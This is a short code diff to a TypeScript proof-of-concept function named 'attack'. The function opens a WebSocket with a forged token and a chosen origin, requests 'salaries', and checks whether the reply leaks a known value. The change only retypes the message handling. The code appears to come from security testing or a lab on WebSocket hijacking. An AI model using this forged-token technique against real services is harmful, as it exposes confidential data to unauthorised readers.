@@ -12,10 +12,10 @@ export function attack({ url, origin, say }: Attempt): Promise<boolean> {
   const socket = new WebSocket(`${url}?token=${forged}`, { origin });
   return new Promise((done) => {
     socket.on("open", () => socket.send("salaries"));
-    socket.on("message", (data) => {
-      say(`< ${String(data)}`);
+    socket.on("message", (data: Buffer) => {
+      say(`< ${data.toString()}`);
       socket.close();
-      done(String(data).includes("9400"));
+      done(data.toString().includes("9400"));
     });
     socket.on("error", ({ message }) => {
       say(`< ${message}`);
